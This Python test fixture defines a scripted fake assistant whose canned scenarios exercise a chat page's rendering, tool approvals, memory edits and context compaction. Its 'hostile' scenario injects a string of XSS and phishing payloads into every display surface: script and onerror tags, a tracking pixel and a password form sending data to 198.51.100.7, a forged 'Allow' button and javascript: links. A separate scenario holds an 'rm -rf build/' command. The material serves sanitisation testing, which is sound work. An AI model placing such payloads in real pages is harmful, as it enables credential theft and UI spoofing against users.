"""A scripted assistant for the page: conversations that tell canned events, on a real workspace folder.

What a conversation tells depends on the first word of the message: `slow`, `tools`, `approve`, `edit`, `compact`,
`remember`, `recall`, `hostile`, `fail`, `steps`, `long`, `math`; anything else is echoed.
"""

from __future__ import annotations

import asyncio
import datetime as dt
import threading
from collections.abc import AsyncIterator, Callable, Coroutine, Mapping, Sequence
from contextlib import asynccontextmanager
from dataclasses import dataclass, field, replace
from pathlib import Path

from assistant.assembly.own_settings import OwnSettings
from assistant.compaction.record import CompactionRecord
from assistant.config.clock import Clock
from assistant.config.settings import Settings
from assistant.conversation.trash import EmptiedTrash, empty_question
from assistant.errors import CompactionError, SessionNotFoundError
from assistant.memory.log import MemoryChange, MemoryLog
from assistant.memory.notes import Notes
from assistant.messages.blocks import BlockKey
from assistant.messages.events import (
    ApprovalRequested,
    CompactionUndone,
    ContextCompressed,
    ContextMeasured,
    ContextPart,
    Event,
    MemoryChanged,
    Notice,
    Part,
    Recalled,
    RecalledLine,
    TextDelta,
    ThinkingDelta,
    ToolFinished,
    ToolOutput,
    ToolStarted,
    TurnFailed,
    TurnFinished,
    TurnStarted,
)
from assistant.storage.artifacts import Artifacts
from assistant.storage.journal.journal import Journal
from assistant.storage.workspace import Workspace

ZONE = dt.timezone(dt.timedelta(hours=1))
NOW = dt.datetime(2026, 11, 30, 14, 5, tzinfo=ZONE)
WINDOW = 128_000
THRESHOLD = 89_600
DENTIST_KEY = BlockKey("question", "text", "block")
ARTIFACT_ID = "00000000-0000-4000-8000-000000000001"

SUMMARY = """## Goal
Move the dentist appointment to Friday and keep the afternoon free.

## Key decisions
- Friday 15:30, tram 12 to Langstrasse, back by 17:00.
- 周五下午不安排会议。

## Next steps
- Confirm by telephone on Wednesday."""

HOSTILE = """<script>window.pwned = 1</script><img src="http://198.51.100.7/a.png" onerror="window.pwned = 2">
![tracking pixel](http://198.51.100.7/b.png?q=secret)
![ref][r]

[r]: http://198.51.100.7/c.png

<form action="http://198.51.100.7/f"><input name="password" placeholder="Your password"><button>Sign in</button></form>
<div style="position:fixed;inset:0;background:red;z-index:99999">overlay</div>
<div class="p-card p-approval"><button class="p-button pal pal-do--allow--Y2FsbC0x">Allow</button></div>
<iframe src="http://198.51.100.7/i"></iframe><style>body{background:url(http://198.51.100.7/s)}</style>
$$<img src="http://198.51.100.7/m.png" onerror="window.pwned = 3">$$

- list
   ```
- end
<img src="http://198.51.100.7/l.png" onerror="window.pwned = 4">

${window.pwned = 5} {{constructor.constructor('window.pwned = 6')()}} `<img src="http://198.51.100.7/n.png">`

[a link](javascript:window.pwned=7) and <https://example.org/plain>"""

STREAMED_TEXT = (
    "## What the trip needs\n\nThe ferry leaves **every hour** from the quay, and `ferry --days 3` lists the boats "
    "that still have room for a bicycle. Those who come late wait on the other shore, in a café by the water.\n\n"
    "- tickets for two\n- a map of the old town\n- something against rain\n\n"
    "```python\ndef minutes(hours: float) -> float:\n    return hours * 60\n```\n\n"
    "| day | place | nights |\n|---|---|---:|\n| Monday | Lisbon | 2 |\n| Wednesday | Sintra | 1 |\n\n"
) * 40
STREAMED_PIECES = 200

Scenario = Callable[["FakeConversation", str], AsyncIterator[Event]]


@dataclass(frozen=True, slots=True)
class FakeModel:
    """Who would answer."""

    name: str = "qwen3-max"
    provider: str = "dashscope"
    window_tokens: int = WINDOW
    is_language_model: bool = True
    is_fit_for_summaries: bool = True
    how: str = "DASHSCOPE_API_KEY is set, and dashscope answered in 0.4 s."
    is_stand_in: bool = False


OFFLINE = FakeModel(
    "built-in assistant",
    "offline",
    8_192,
    False,
    False,
    "No key is set. Nothing answered on loopback ports 11434, 1234, 8080, 1337 and 8000.",
)


@dataclass(frozen=True, slots=True)
class FakeReport:
    """A connection test's outcome."""

    is_ok: bool
    text: str


@dataclass(frozen=True, slots=True)
class FakeItem:
    """A piece of what the model sees."""

    part: Part
    label: str
    text: str
    tokens: int
    key: BlockKey | None = None
    is_user: bool = False
    is_pinned: bool = False


@dataclass(frozen=True, slots=True)
class FakePreview:
    """What compacting now would do."""

    previous_tokens: int = 18_420
    folded_tokens: int = 0
    folded: tuple[FakeItem, ...] = ()
    kept_turns: int = 0
    reason: str = ""


@dataclass(frozen=True, slots=True)
class FakeQuestion:
    """A message that can be edited."""

    message_id: str
    later_messages: int


@dataclass(frozen=True, slots=True)
class FakeStore:
    """What stands on disk."""

    artifacts: Artifacts
    journal: Journal
    clock: Clock


@dataclass(frozen=True, slots=True)
class FakeSession:
    """A line of the list."""

    session_id: str
    title: str
    updated_at: str


@dataclass(frozen=True, slots=True)
class FakeHit:
    """A place that a search found."""

    path: str
    line: int
    snippet: str
    day: str = ""
    session_id: str = ""
    message_id: str = ""
    message_ids: tuple[str, ...] = ()


@dataclass(frozen=True, slots=True)
class FakeHits:
    """What a search found."""

    hits: tuple[FakeHit, ...] = ()
    notices: tuple[str, ...] = ()


@dataclass(frozen=True, slots=True)
class FakeIndexState:
    """An index that is complete, unless said otherwise."""

    pending: int = 0
    progress: float = 1.0
    notices: tuple[str, ...] = ()


@dataclass
class FakeIndex:
    """Finds lines of the memory files that contain the query, and what it is told to find."""

    workspace: Workspace
    said: tuple[FakeHit, ...] = ()
    state: FakeIndexState = FakeIndexState()

    async def search(self, query: str, max_results: int = 5) -> FakeHits:
        hits = [
            FakeHit(self.workspace.relative_name(path), number, line)
            for path in self.workspace.memory_files()
            for number, line in enumerate(path.read_text("utf-8").splitlines(), 1)
            if query.lower() in line.lower()
        ]
        said = [hit for hit in self.said if query.lower() in hit.snippet.lower()]
        return FakeHits(tuple([*hits, *said][:max_results]))

    def status(self) -> FakeIndexState:
        return self.state


@dataclass(frozen=True, slots=True)
class FakeNumbered:
    """A live event and its place."""

    number: int
    event: Event


@dataclass(frozen=True, slots=True)
class FakePast:
    """What a new reader gets."""

    history: list[Event]
    start: int


class FakeConversation:
    """Tells what its scenario says, one turn after the other, whether anyone follows or not."""

    def __init__(self, session_id: str, title: str, pace_seconds: float, gate: threading.Event) -> None:
        self.session_id = session_id
        self.title = title
        self.pace_seconds = pace_seconds
        self.gate = gate
        self.events: list[Event] = []
        self.past: list[Event] = []
        self.answers: dict[str, bool] = {}
        self.pins: list[BlockKey] = []
        self.pins_refused = ""
        self.retried = 0
        self.continued = 0
        self.dropped: set[str] = set()
        self._queue: list[str] = []
        self._task: asyncio.Task[None] | None = None
        self._told = asyncio.Event()
        self.used_tokens = 18_400
        self._turns = 0

    @property
    def is_running(self) -> bool:
        return self._task is not None and not self._task.done()

    def ask(self, text: str) -> None:
        self._queue.append(text)
        if not self.title:
            self.title = text[:60]
        if not self.is_running:
            self._begin(self._work())

    @property
    def queued(self) -> tuple[str, ...]:
        return tuple(self._queue)

    def answer(self, call_id: str, is_allowed: bool) -> None:
        self.answers[call_id] = is_allowed
        self._begin(self._go_on(call_id, is_allowed))

    async def stop(self) -> None:
        if self._task is not None:
            self._task.cancel()
            await asyncio.gather(self._task, return_exceptions=True)

    def continue_turn(self) -> None:
        self.continued += 1
        self._begin(self._resume("Going on where it was cut."))

    def retry(self) -> None:
        self.retried += 1
        self._begin(self._resume("The second try worked."))

    def questions(self) -> list[FakeQuestion]:
        """Every question that was not dropped, each with one answer behind it."""
        started = [event for event in [*self.past, *self.events] if isinstance(event, TurnStarted) and event.text]
        ids = [event.message_id for event in started if event.message_id not in self.dropped]
        return [FakeQuestion(name, 2 * (len(ids) - index) - 1) for index, name in enumerate(ids)]

    def edit(self, message_id: str, text: str) -> None:
        ids = [question.message_id for question in self.questions()]
        self.dropped |= set(ids[ids.index(message_id) :])
        self.ask(text)

    def compact(self, hint: str = "") -> None:
        self._begin(self._compact(hint))

    def undo(self) -> None:
        self._begin(self._undo())

    def attach(self) -> FakePast:
        return FakePast(list(self.past), 0)

    async def follow(self, start: int) -> AsyncIterator[FakeNumbered]:
        number = start
        while True:
            while number < len(self.events):
                yield FakeNumbered(number, self.events[number])
                number += 1
            await self._told.wait()

    def measure(self) -> None:
        self.tell(measured(self.used_tokens))

    def context_items(self) -> list[FakeItem]:
        return [
            FakeItem("system", "Working rules", "You are a personal assistant.", 1_850),
            FakeItem("soul", "SOUL.md", "Calm, exact, brief.", 240),
            FakeItem("user", "USER.md", "Lives in Zürich. 喜欢简短的回答。", 310),
            FakeItem("memory", "MEMORY.md", "- Lisbon 12–16 December", 620),
            FakeItem("tools", "9 tools", "Bash, Read, Write, Edit, Glob, Grep, …", 2_900),
            FakeItem("summary", "Summary of 46 messages", SUMMARY, 1_480),
            FakeItem(
                "messages",
                "You: Move the dentist to Friday",
                "Move the dentist to Friday.",
                14,
                DENTIST_KEY,
                True,
                DENTIST_KEY in self.pins,
            ),
            FakeItem("messages", "Bash result", "${window.pwned = 9} {{value}} <b>not bold</b>", 5_200),
            FakeItem("messages", "Palimpsest: Friday is free after 15:00", "Friday is free after 15:00.", 5_786),
        ]

    def compaction(self, compaction_id: str) -> CompactionRecord | None:
        """The record of a compaction that was told; each one stands on the summary told before it."""
        told = [event for event in [*self.past, *self.events] if isinstance(event, ContextCompressed)]
        for index, event in enumerate(told):
            if event.compaction_id == compaction_id:
                return record_of(event, told[index - 1].summary if index else "")
        return None

    async def preview_compaction(self) -> FakePreview:
        folded = tuple(item for item in self.context_items() if item.part == "messages")[:2]
        return FakePreview(18_420, sum(item.tokens for item in folded), folded, 3)

    def pin(self, key: BlockKey) -> None:
        if self.pins_refused:
            raise CompactionError(self.pins_refused)
        self.pins.append(key)

    def unpin(self, key: BlockKey) -> None:
        self.pins.remove(key)

    def _begin(self, work: Coroutine[None, None, None]) -> None:
        self._task = asyncio.create_task(work)

    async def _compact(self, hint: str) -> None:
        self.tell(compaction(f"manual-{len(self.events)}", summary=f"{SUMMARY}\n\n{hint}".strip(), reason="manual"))
        self.used_tokens = 24_000
        self.measure()

    async def _undo(self) -> None:
        undone = {event.compaction_id for event in self.events if isinstance(event, CompactionUndone)}
        standing = [
            event
            for event in [*self.past, *self.events]
            if isinstance(event, ContextCompressed) and event.compaction_id not in undone
        ]
        if not standing:
            self.tell(Notice("There is no compaction to undo."))
            return
        self.used_tokens = 91_000
        self.tell(CompactionUndone(standing[-1].compaction_id, standing[-1].folded_messages))
        self.measure()

    def tell(self, event: Event) -> None:
        self.events.append(event)
        told, self._told = self._told, asyncio.Event()
        told.set()

    async def _work(self) -> None:
        while self._queue:
            text = self._queue.pop(0)
            self._turns += 1
            turn_id = f"{self.session_id}-turn-{self._turns}"
            self.tell(TurnStarted(turn_id, f"{turn_id}-question", text, NOW.isoformat()))
            await self._play(turn_id, _scenario_for(text)(self, text))

    async def _play(self, turn_id: str, events: AsyncIterator[Event]) -> None:
        try:
            async for event in events:
                if isinstance(event, (TurnFinished, TurnFailed)):
                    self.tell(replace(event, turn_id=turn_id))
                    return
                self.tell(event)
                await asyncio.sleep(self.pace_seconds)
            self.used_tokens = min(self.used_tokens + 3_000, WINDOW)
            self.measure()
            self.tell(TurnFinished(turn_id, "completed", self.used_tokens, 220, NOW.isoformat()))
        except asyncio.CancelledError:
            self.tell(TurnFinished(turn_id, "interrupted", at=NOW.isoformat()))
            raise

    async def _go_on(self, call_id: str, allow: bool) -> None:
        turn_id = f"{self.session_id}-turn-{self._turns}"
        self.tell(TurnStarted(turn_id, "", "", NOW.isoformat()))
        await self._play(turn_id, _after_approval(call_id, allow))

    async def _resume(self, text: str) -> None:
        turn_id = f"{self.session_id}-turn-{self._turns}"
        self.tell(TurnStarted(turn_id, "", "", NOW.isoformat()))
        await self._play(turn_id, _words(f"again-{self.retried}-{self.continued}", text))


class FakeSubmitted:
    """The conversation a person is in after a message."""

    def __init__(self, conversation: FakeConversation) -> None:
        self.conversation = conversation


@dataclass
class FakeAssistant:
    """The assistant of the page's tests."""

    workspace: Workspace
    model: FakeModel = field(default_factory=FakeModel)
    pace_seconds: float = 0.01
    gate: threading.Event = field(default_factory=threading.Event)
    is_recall_on: bool = True
    report: FakeReport = FakeReport(True, "qwen3-max answered in 0.8 s and called one tool.")

    def __post_init__(self) -> None:
        self.memory_log = MemoryLog(self.workspace.memory_log_path)
        self.notes = Notes(self.workspace, self.memory_log, lambda: NOW)
        self.notes.on_change.append(self._tell_change)
        clock = Clock(Settings(home=self.workspace.root))
        self.store = FakeStore(Artifacts(self.workspace), Journal(self.workspace, lambda: NOW), clock)
        self.index = FakeIndex(self.workspace)
        self.conversations = FakeConversations(self.pace_seconds, self.gate)
        self.own_settings = OwnSettings(self.workspace.root, is_owner=False)
        self.left = FakeLeft()

    @property
    def can_recall(self) -> bool:
        return self.model.is_language_model

    @property
    def trash(self) -> FakeTrash:
        return FakeTrash(self.conversations)

    async def submit(self, conversation: FakeConversation, text: str) -> FakeSubmitted:
        conversation.ask(text)
        return FakeSubmitted(conversation)

    @property
    def file_cap_chars(self) -> int:
        return 20_000

    def owner_of(self, session_id: str) -> FakeAssistant:
        return self

    def _tell_change(self, change: MemoryChange) -> None:
        if conversation := self.conversations.known.get(change.session_id):
            conversation.tell(MemoryChanged(change.path, change.writer, change.diff, change.change_id))

    async def reconnect_model(self) -> FakeModel:
        self.model = FakeModel()
        return self.model

    async def test_connection(self) -> FakeReport:
        return self.report


@dataclass(slots=True)
class FakeLeft:
    """The conversations that the page told to be left, in order."""

    session_ids: list[str] = field(default_factory=list)

    def leave(self, session_id: str) -> None:
        self.session_ids.append(session_id)


@dataclass(frozen=True, slots=True)
class FakeTrash:
    """Empties the trash of the fake home."""

    conversations: FakeConversations

    @property
    def question(self) -> str:
        return empty_question(len(self.conversations.in_trash))

    async def empty(self) -> EmptiedTrash:
        count = len(self.conversations.in_trash)
        self.conversations.in_trash.clear()
        return EmptiedTrash(count)


class FakeConversations:
    """All conversations of the fake home."""

    def __init__(self, pace_seconds: float, gate: threading.Event) -> None:
        self.known: dict[str, FakeConversation] = {}
        self.in_trash: dict[str, FakeConversation] = {}
        self._pace_seconds = pace_seconds
        self._gate = gate

    def open(self, session_id: str) -> FakeConversation:
        if session_id not in self.known:
            raise SessionNotFoundError(session_id)
        return self.known[session_id]

    def all_open(self) -> tuple[FakeConversation, ...]:
        return tuple(self.known.values())

    def create(self) -> FakeConversation:
        return self.add(f"session-{len(self.known) + 1}", "")

    def add(self, session_id: str, title: str, past: Sequence[Event] = ()) -> FakeConversation:
        conversation = FakeConversation(session_id, title, self._pace_seconds, self._gate)
        conversation.past = list(past)
        self.known[session_id] = conversation
        return conversation

    def summaries(self) -> list[FakeSession]:
        return _summaries(self.known)

    def trashed(self) -> list[FakeSession]:
        return _summaries(self.in_trash)

    def rename(self, session_id: str, title: str) -> None:
        self.open(session_id).title = title

    async def trash(self, session_id: str) -> None:
        conversation = self.open(session_id)
        await conversation.stop()
        self.in_trash[session_id] = self.known.pop(session_id)

    def restore(self, session_id: str) -> None:
        if session_id not in self.in_trash:
            raise SessionNotFoundError(session_id)
        self.known[session_id] = self.in_trash.pop(session_id)


def _summaries(conversations: Mapping[str, FakeConversation]) -> list[FakeSession]:
    newest_first = list(reversed(conversations.values()))
    return [
        FakeSession(
            conversation.session_id,
            conversation.title,
            (dt.datetime.now(ZONE) - dt.timedelta(hours=9 * index)).isoformat(),
        )
        for index, conversation in enumerate(newest_first)
    ]


def fake_assistant(home: Path, **values: object) -> FakeAssistant:
    """An assistant on a workspace with three memory files and two notes."""
    workspace = Workspace(home)
    (home / "memory").mkdir(parents=True, exist_ok=True)
    texts = {
        "SOUL.md": "# Soul\n\nCalm, exact, brief. Says what it does not know.\n",
        "USER.md": "# About me\n\n- Lives in Zürich, speaks German and 中文\n- Prefers short answers\n",
        "MEMORY.md": "# Long-term memory\n\n## Health\n- Dentist: Friday 15:30\n\n## Travel\n- Lisbon 12–16 December, "
        "flight LX2086\n",
        "memory/2026-11-30.md": "# 2026-11-30\n\n- Moved the dentist to Friday\n",
        "memory/2026-11-29.md": "# 2026-11-29\n\n- Compared three hotels in Alfama\n",
    }
    for name, text in texts.items():
        if not (home / name).exists():
            (home / name).write_text(text, "utf-8")
    return FakeAssistant(workspace, **values)  # type: ignore[arg-type]


@asynccontextmanager
async def opened(assistant: FakeAssistant) -> AsyncIterator[FakeAssistant]:
    """The assistant as the page opens it; its turns end with it."""
    try:
        yield assistant
    finally:
        for conversation in assistant.conversations.known.values():
            await conversation.stop()


def measured(used: int) -> ContextMeasured:
    """A full window of all kinds of parts."""
    fixed: tuple[tuple[Part, int], ...] = (
        ("system", 1_850),
        ("soul", 240),
        ("user", 310),
        ("memory", 620),
        ("tools", 2_900),
        ("summary", 1_480),
    )
    parts = tuple(ContextPart(name, tokens) for name, tokens in fixed)
    rest = used - sum(part.tokens for part in parts)
    return ContextMeasured(used, THRESHOLD, WINDOW, (*parts, ContextPart("messages", rest)))


def compaction(compaction_id: str, summary: str = SUMMARY, reason: str = "automatic") -> ContextCompressed:
    """A compaction's event."""
    return ContextCompressed(
        compaction_id=compaction_id,
        reason=reason,  # type: ignore[arg-type]
        previous_tokens=91_200,
        after_tokens=23_700,
        context_limit=WINDOW,
        threshold_tokens=THRESHOLD,
        folded_messages=46,
        kept_turns=3,
        summary=summary,
        summary_tokens=1_480,
        fallback=False,
        flush="done",
        carried_over=("Key context",),
        at=NOW.isoformat(),
    )


def record_of(event: ContextCompressed, previous_summary: str) -> CompactionRecord:
    """The journal's record of a compaction."""
    return CompactionRecord(
        session_id="s1",
        compaction_id=event.compaction_id,
        parent_id=None,
        at=event.at,
        keys=(),
        previous_summary=previous_summary,
        summary=event.summary,
        reason=event.reason,
        previous_tokens=event.previous_tokens,
        after_tokens=event.after_tokens,
        context_limit=event.context_limit,
        threshold_tokens=event.threshold_tokens,
        folded_messages=event.folded_messages,
        kept_turns=event.kept_turns,
        summary_tokens=event.summary_tokens,
        fallback=event.fallback,
    )


def past_conversation(turns: int) -> list[Event]:
    """A past conversation of so many turns, as the journal tells it."""
    events: list[Event] = []
    for turn in range(1, turns + 1):
        events += [
            TurnStarted(f"old-{turn}", f"old-{turn}-question", f"Question {turn} about the trip", NOW.isoformat()),
            ToolStarted(f"old-call-{turn}", "Read", '{"file_path": "trip.md"}'),
            ToolFinished(f"old-call-{turn}", "Read", "success", f"line {turn} of the file"),
            TextDelta(f"old-text-{turn}", f"Answer {turn}: the hotel is booked."),
            TurnFinished(f"old-{turn}", "completed", 4_000 + turn, 80, NOW.isoformat()),
        ]
        if turn == turns // 2:
            events.append(compaction("old-compaction"))
    return events


def _scenario_for(text: str) -> Scenario:
    return _SCENARIOS.get(text.split(maxsplit=1)[0].lower().rstrip(":,"), _echo)


async def _words(block_id: str, text: str) -> AsyncIterator[Event]:
    for index, word in enumerate(text.split(" ")):
        yield TextDelta(block_id, word if index == 0 else f" {word}")


async def _echo(conversation: FakeConversation, text: str) -> AsyncIterator[Event]:
    yield measured(conversation.used_tokens)
    async for event in _words(f"echo-{len(conversation.events)}", f"You said: **{text}**"):
        yield event


async def _answer(conversation: FakeConversation, text: str) -> AsyncIterator[Event]:
    """Streams what comes behind the first word."""
    block, words = f"answer-{len(conversation.events)}", text.partition(" ")[2]
    size = max(20, len(words) // 100)
    for at in range(0, len(words), size):
        yield TextDelta(block, words[at : at + size])


async def _stream(conversation: FakeConversation, text: str) -> AsyncIterator[Event]:
    """Twenty pieces a second of a long answer."""
    block, size = f"stream-{len(conversation.events)}", -(-len(STREAMED_TEXT) // STREAMED_PIECES)
    for at in range(0, len(STREAMED_TEXT), size):
        yield TextDelta(block, STREAMED_TEXT[at : at + size])
        await asyncio.sleep(0.05)


async def _slow(conversation: FakeConversation, text: str) -> AsyncIterator[Event]:
    block = f"slow-{len(conversation.events)}"
    yield measured(conversation.used_tokens)
    yield TextDelta(block, "It begins")
    while not conversation.gate.is_set():
        yield TextDelta(block, " …")
        await asyncio.sleep(0.05)
    yield TextDelta(block, " and it ends.")


async def _tools(conversation: FakeConversation, text: str) -> AsyncIterator[Event]:
    mark = len(conversation.events)
    yield measured(conversation.used_tokens)
    async for event in _words(
        f"think-{mark}", "The person wants Friday. I look into the notes and the calendar first."
    ):
        assert isinstance(event, TextDelta)
        yield ThinkingDelta(event.block_id, event.text)
    yield ToolStarted(f"search-{mark}", "memory_search", '{"query": "dentist", "max_results": 5}')
    yield ToolFinished(
        f"search-{mark}", "memory_search", "success", "memory/2026-11-27.md:3  Dentist on Thursday 10:30"
    )
    yield ToolStarted(f"bash-{mark}", "Bash", '{"command": "grep -rn \\"Friday\\" calendar/ | head -20"}')
    yield ToolOutput(f"bash-{mark}", "calendar/friday.md:1: free from 15:00\n")
    yield ToolFinished(
        f"bash-{mark}",
        "Bash",
        "success",
        "calendar/friday.md:1: free from 15:00\necho $$ && $$",
        artifact_id=ARTIFACT_ID,
    )
    yield ToolStarted(f"read-{mark}", "Read", '{"file_path": "calendar/missing.md"}')
    yield ToolFinished(f"read-{mark}", "Read", "error", "calendar/missing.md does not exist.")
    answer = (
        "Friday is free after **15:00**, so I suggest 15:30:\n\n1. Leave at 14:30\n2. Tram 12 to Langstrasse\n"
        "3. Back by 17:00\n\n```python\ndef minutes(hours: int, rest: int) -> int:\n\treturn hours * 60 + rest\n"
        "html = '<b>bold</b>'\n```\n\n今天的日程已更新。\n\n| Day | Free from |\n|---|---|\n| Thursday | – |\n"
        "| Friday | 15:00 |"
    )
    async for event in _words(f"answer-{mark}", answer):
        yield event


async def _approve(conversation: FakeConversation, text: str) -> AsyncIterator[Event]:
    mark = len(conversation.events)
    call = f"call-{mark}"
    yield TextDelta(f"before-{mark}", "I would tidy the build folder.")
    yield ToolStarted(call, "Bash", '{"command": "rm -rf build/ && echo $$ done"}')
    yield ApprovalRequested(
        call,
        "Bash",
        '{"command": "rm -rf build/ && echo $$ done"}',
        "rm -rf build/ && echo $$ done",
        "It deletes files: rm is not a command that only reads.",
    )
    yield TurnFinished("", "awaiting_approval", at=NOW.isoformat())


async def _edit(conversation: FakeConversation, text: str) -> AsyncIterator[Event]:
    call = f"edit-{len(conversation.events)}"
    yield ToolStarted(call, "Edit", '{"file_path": "plan.md"}')
    yield ApprovalRequested(
        call,
        "Edit",
        '{"file_path": "plan.md"}',
        "--- plan.md\n+++ plan.md\n@@ -1,3 +1,3 @@\n # Plan\n-- Dentist on Thursday\n+- Dentist on Friday\n - Pack",
        "It changes a file in the workspace.",
    )
    yield TurnFinished("", "awaiting_approval", at=NOW.isoformat())


async def _after_approval(call_id: str, allow: bool) -> AsyncIterator[Event]:
    if allow:
        yield ToolOutput(call_id, "removing…\n")
        yield ToolFinished(call_id, "Bash", "success", "removing…\n4711 done")
        text = "Done: the build folder is gone."
    else:
        yield ToolFinished(call_id, "Bash", "denied", "The person denied this call.")
        text = "All right, I leave it as it is."
    async for event in _words(f"after-{call_id}", text):
        yield event


async def _compact(conversation: FakeConversation, text: str) -> AsyncIterator[Event]:
    mark = len(conversation.events)
    yield measured(91_200)
    yield compaction(f"compaction-{mark}")
    conversation.used_tokens = 23_700
    yield measured(conversation.used_tokens)
    async for event in _words(f"folded-{mark}", "The older part is folded. I go on with the dentist."):
        yield event


async def _remember(conversation: FakeConversation, text: str) -> AsyncIterator[Event]:
    mark = len(conversation.events)
    yield TextDelta(f"noted-{mark}", "I wrote that down.")
    yield MemoryChanged(
        "USER.md", "assistant", "@@ -2,1 +2,2 @@\n - Lives in Zürich\n+- Prefers short answers", f"change-a-{mark}"
    )
    yield MemoryChanged(
        "memory/2026-11-30.md",
        "flush",
        "@@ -1,2 +1,2 @@\n # 2026-11-30\n-- Dentist on Thursday\n+- Dentist moved to Friday 15:30, tram 12",
        f"change-b-{mark}",
    )
    yield Notice("MEMORY.md is at 84 % of its cap; its middle may soon be left out of the prompt.")


async def _recall(conversation: FakeConversation, text: str) -> AsyncIterator[Event]:
    yield Recalled(
        (
            RecalledLine("MEMORY.md", 4, "- Dentist: Friday 15:30", 0.86),
            RecalledLine("memory/2026-11-29.md", 3, "- Compared three hotels in Alfama", 0.57),
        )
    )
    async for event in _words(f"recalled-{len(conversation.events)}", "You see the dentist on Friday at 15:30."):
        yield event


async def _hostile(conversation: FakeConversation, text: str) -> AsyncIterator[Event]:
    mark = len(conversation.events)
    yield ThinkingDelta(f"evil-think-{mark}", HOSTILE)
    yield ToolStarted(f"evil-{mark}", "<img src=x onerror=window.pwned=8>", '{"command": "' + "<b>x</b>" + '"}')
    yield ToolFinished(f"evil-{mark}", "<img src=x onerror=window.pwned=8>", "success", HOSTILE, diff=f"+{HOSTILE}")
    yield compaction(f"evil-compaction-{mark}", summary=HOSTILE)
    yield MemoryChanged("MEMORY.md", HOSTILE, f"@@ -1 +1 @@\n+{HOSTILE}", f"evil-change-{mark}")
    yield Notice(HOSTILE)
    yield TextDelta(f"evil-text-{mark}", HOSTILE)


async def _fail(conversation: FakeConversation, text: str) -> AsyncIterator[Event]:
    yield TextDelta(f"half-{len(conversation.events)}", "I was just about to")
    yield TurnFailed("", "The server at 127.0.0.1:11434 refused the connection. Is Ollama running?", NOW.isoformat())


async def _steps(conversation: FakeConversation, text: str) -> AsyncIterator[Event]:
    yield TextDelta(f"steps-{len(conversation.events)}", "I have read 40 of 90 files.")
    yield TurnFinished("", "max_steps", at=NOW.isoformat())


async def _long(conversation: FakeConversation, text: str) -> AsyncIterator[Event]:
    mark = len(conversation.events)
    paragraph = "The quick brown fox jumps over the lazy dog, and the dog does not mind. "
    async for event in _words(f"long-{mark}", "\n\n".join(paragraph * 4 for _ in range(8))):
        yield event


_SCENARIOS: dict[str, Scenario] = {
    "answer": _answer,
    "slow": _slow,
    "stream": _stream,
    "tools": _tools,
    "approve": _approve,
    "edit": _edit,
    "compact": _compact,
    "remember": _remember,
    "recall": _recall,
    "hostile": _hostile,
    "fail": _fail,
    "steps": _steps,
    "long": _long,
}
